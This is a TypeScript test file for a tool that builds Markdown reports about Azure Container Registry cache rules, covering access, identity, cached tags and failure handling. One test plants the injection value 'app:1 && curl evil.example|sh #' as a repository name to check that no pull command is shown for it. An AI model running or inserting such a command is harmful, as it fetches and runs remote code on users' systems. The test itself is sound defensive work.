import { describe, expect, it } from 'vitest';
import type { Azure } from '../../../../src/azure/azure.ts';
import { escapeMarkdown } from '../../../../src/common/markdown.ts';
import { cacheRuleArmId } from '../../../../src/domain/armId.ts';
import { roles } from '../../../../src/domain/roles.ts';
import {
  keepEarlier,
  readRuleReport,
  type RuleReport,
  unreadReport,
} from '../../../../src/provisioning/ruleReport/readRuleReport.ts';
import { ruleReportMarkdown } from '../../../../src/provisioning/ruleReport/ruleReportMarkdown.ts';
import { mapping } from '../links.ts';
import { inOneWorld } from '../savedState.ts';
import { startWorld, type World } from '../world.ts';

let world: World;
let id: string;
inOneWorld(async () => {
  world = await startWorld({ retryAfterSeconds: 0, operationMs: 5 });
  await world.setUp();
  id = cacheRuleArmId(world.link().downstream.id, 'MyRule');
  return world;
});

/** By a client that remembers nothing of the test before. */
const read = (ruleId = id, options: Parameters<typeof readRuleReport>[2] = {}): Promise<RuleReport> =>
  readRuleReport(world.as('dev'), ruleId, options);

const shown = (report: RuleReport, client: 'docker' | 'podman' = 'docker'): string =>
  ruleReportMarkdown(report, { client, time: (iso) => iso });

function value<K extends 'mapping' | 'access' | 'identity' | 'cached' | 'json'>(
  report: RuleReport,
  name: K,
): RuleReport[K] extends infer P ? (P extends { value: infer V } ? V : never) : never {
  const part = report[name];
  if (part.state !== 'ready') throw new Error(`${name} ${JSON.stringify(part)}`);
  return part.value as never;
}

describe('the report of a rule', () => {
  it('tells the mapping, the access and its reason, the identity, and fills in part by part', async () => {
    const seen: RuleReport[] = [];
    const report = await read(id, { onPart: (partial) => seen.push(partial) });
    expect(seen).toHaveLength(6);
    expect(seen[0]?.mapping.state).toBe('loading');
    expect(value(report, 'mapping')).toMatchObject({ rule: { name: 'MyRule' } });
    expect(shown(report, 'podman')).toContain(`podman pull ${world.link().downstream.loginServer}/myapp:<tag>`);
    const access = value(report, 'access');
    expect(access).toMatchObject({ sufficient: true });
    expect(access.grants).toMatchObject([
      { scope: world.link().source.id, compared: 'Gives exactly what the rule needs.' },
    ]);
    expect(access.grants[0]?.explained).toContain(roles.repositoryReader.name);
    expect(access.grants[0]?.explained).toContain('the repository "myapp"');
    expect(value(report, 'identity')).toMatchObject({
      recreated: false,
      usage: { rules: [], resources: [], assignments: [], unknown: [] },
    });
    expect(value(report, 'cached')).toEqual({ repositories: [], moreRepositories: 0, isCut: false });
    expect(value(report, 'json')).toMatchObject({ name: 'MyRule' });
  });

  it('does not say that nothing uses an identity of which it could not look', async () => {
    const report = await read();
    const nothing = 'Nothing else that you can see uses MyACRCacheIdentity';
    expect(shown(report)).toContain(nothing);
    const { usage, ...rest } = value(report, 'identity');
    expect(usage).toBeDefined();
    const unread: RuleReport = { ...report, identity: { state: 'ready', value: rest } };
    expect(shown(unread)).not.toContain(nothing);
  });

  it('has no pull command for a target that is no repository name', async () => {
    const rule = [...world.sandbox.state.resources.values()].find((resource) => resource.id === id);
    if (rule) rule.properties['targetRepository'] = 'app:1 && curl evil.example|sh #';
    const report = await read();
    expect(shown(report)).not.toContain('docker pull');
  });

  it('says that the identity may not read, was made anew, and who else uses it', async () => {
    const { authentication: identity } = world.link();
    await world.setUp(world.link({ mappings: [mapping('SecondRule', 'charts/shop')] }));
    await world.azure.identities.delete(identity.identityId);
    await world.azure.identities.create(identity.identityId, 'eastus');
    const report = await read();
    expect(value(report, 'access')).toMatchObject({ sufficient: false });
    expect(value(report, 'identity')).toMatchObject({ recreated: true, usage: { rules: [{ name: 'SecondRule' }] } });
    expect(shown(report)).toContain('SecondRule');
  });

  it('shows cached tags with platforms, and which are stale or gone upstream', async () => {
    const content = world.azure.registry(await world.registry('myregistry'));
    for (const tag of ['1.0', '1.1', 'latest']) await content.pull('myapp', tag);
    await expect.poll(async () => (await content.tags('myapp')).length).toBe(3);
    // Two images, each with its index and the platform that was pulled.
    await expect.poll(async () => (await content.storedManifests('myapp')).length).toBe(4);
    const upstream = [...world.sandbox.state.content.values()].find(({ registryId }) =>
      registryId.endsWith('/upstreamregistry'),
    );
    const tags = upstream?.repositories.get('myapp')?.tags;
    const newer = tags?.get('1.1');
    if (!tags || !newer) throw new Error('no tags');
    tags.set('1.0', { ...newer });
    tags.delete('latest');
    await world.azure.roles.put(world.id('upstreamregistry'), crypto.randomUUID(), {
      roleId: roles.repositoryReader.id,
      principalId: world.principal('dev'),
      principalType: 'User',
    });
    const report = await read();
    const [repository] = value(report, 'cached').repositories;
    const states = Object.fromEntries(repository?.tags.map((tag) => [tag.tag, tag.upstreamState]) ?? []);
    expect(states).toEqual({ '1.0': 'stale', '1.1': 'same', latest: 'gone' });
    expect(repository?.tags.every(({ platforms }) => platforms.length > 0)).toBe(true);
    const rows = shown(report)
      .split('\n')
      .filter((line) => line.startsWith('| `'));
    expect(rows).toHaveLength(3);
    // Digests are short, and whole below.
    const whole = repository?.tags.map(({ digest }) => digest) ?? [];
    expect(rows.filter((row) => whole.some((digest) => row.includes(digest)))).toEqual([]);
    for (const digest of whole) expect(shown(report)).toContain(`\`${digest}\``);
  });

  it('calls no tag deleted, and nothing uncached, because of lists that are too long to be read whole', async () => {
    await world.setUp(world.link({ mappings: [mapping('Wildcard', '*', '*')] }));
    const content = world.azure.registry(await world.registry('myregistry'));
    await content.pull('myapp', '1.0');
    await content.pull('myapp', '1.1');
    await expect.poll(async () => (await content.tags('myapp')).length).toBe(2);
    await world.azure.roles.put(world.id('upstreamregistry'), crypto.randomUUID(), {
      roleId: roles.repositoryReader.id,
      principalId: world.principal('dev'),
      principalType: 'User',
    });
    const dev = world.as('dev');
    const short: Azure = {
      ...dev,
      registry: (registry) => {
        const own = dev.registry(registry);
        const limit = registry.name === 'upstreamregistry' ? 1 : 10_000;
        return {
          ...own,
          tags: (repository, options) => own.tags(repository, { ...options, limit }),
          repositories: (options) => own.repositories({ ...options, limit: 0 }),
        };
      },
    };
    const { repositories } = value(await readRuleReport(short, id), 'cached');
    const states = repositories.flatMap(({ tags }) => tags.map(({ upstreamState }) => upstreamState));
    expect(states).toEqual(['unknown', 'unknown']);
    const wildcard = await readRuleReport(short, cacheRuleArmId(world.link().downstream.id, 'Wildcard'));
    expect(value(wildcard, 'cached')).toEqual({ repositories: [], moreRepositories: 0, isCut: true });
    expect(shown(wildcard)).not.toContain('Nothing is cached yet');
  });

  it('says why the upstream digests are not known when the account may not read there', async () => {
    const content = world.azure.registry(await world.registry('myregistry'));
    await content.pull('myapp', '1.0');
    await expect.poll(async () => (await content.tags('myapp')).length).toBe(1);
    const report = await read();
    const [repository] = value(report, 'cached').repositories;
    expect(repository?.tags[0]?.upstreamState).toBe('unknown');
    expect(repository?.upstreamReason).toMatch(/could not be read/);
  });

  it.each([
    ['access', '^GET .*registries/upstreamregistry/providers/Microsoft.Authorization', undefined],
    ['json', '^GET .*cacheRules/MyRule', 2],
    ['cached', '^(GET|HEAD) localhost:.*/acr/v1/', undefined],
    ['mapping', '^GET .*registries/myregistry\\?', undefined],
  ] as const)('a part that fails says why, the others are there (%s)', async (name, match, nth) => {
    const report = await world.withFaults(
      [{ match, status: 403, message: 'Not for you.', ...(nth ? { nth } : {}) }],
      () => read(),
    );
    const failed = (['mapping', 'access', 'identity', 'cached', 'json'] as const).filter(
      (part) => report[part].state === 'failed',
    );
    expect(failed).toContain(name === 'json' ? failed[0] : name);
    expect(failed.length).toBeLessThan(5);
    expect(shown(report).match(/Not for you/g)).toHaveLength(1);
  });

  it('of a rule that does not exist fails in every part', async () => {
    const report = await read(cacheRuleArmId(world.link().downstream.id, 'NoSuchRule'));
    const { mapping, access, identity, cached, json } = report;
    expect([mapping, access, identity, cached, json].map(({ state }) => state)).toEqual(Array(5).fill('failed'));
    // For all of it one line.
    expect(shown(report).match(/⚠ Could not be read now/g)).toHaveLength(1);
  });

  it('keeps what was read earlier of what is not read yet, and of what cannot be read now', async () => {
    const before = await read();
    const { sentence } = value(before, 'access');
    expect(shown(keepEarlier(unreadReport(id), before))).toContain(escapeMarkdown(sentence));
    const refused = await world.withFaults(
      [{ match: '/cacheRules/MyRule', status: 403, message: 'Not for you.' }],
      () => read(),
    );
    const kept = shown(keepEarlier(refused, before));
    expect(kept.match(/Not for you/g)).toHaveLength(1);
    expect(kept).toContain(escapeMarkdown(sentence));
    expect(shown(refused)).not.toContain(escapeMarkdown(sentence));
    expect(keepEarlier(await read(), before)).not.toHaveProperty('cached.earlier');
  });

  it('is left by a cancel', async () => {
    await expect(read(id, { signal: AbortSignal.abort() })).rejects.toMatchObject({
      kind: 'cancelled',
    });
  });
});
